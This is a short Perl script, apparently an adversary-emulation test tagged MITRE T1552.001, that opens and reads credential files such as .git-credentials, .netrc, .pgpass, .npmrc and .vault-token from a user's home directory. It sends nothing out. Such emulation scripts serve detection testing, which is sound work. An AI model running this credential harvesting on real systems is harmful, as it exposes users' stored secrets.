#!/usr/bin/env perl
# title: Perl reads a user's tokens
# technique: T1552.001
# needs: perl
# as: user

for (qw(.git-credentials .netrc .pgpass .npmrc .pypirc .vault-token .my.cnf)) {
    open(my $file, "<", "$ENV{HOME}/$_") or next; my @all = <$file>;
}
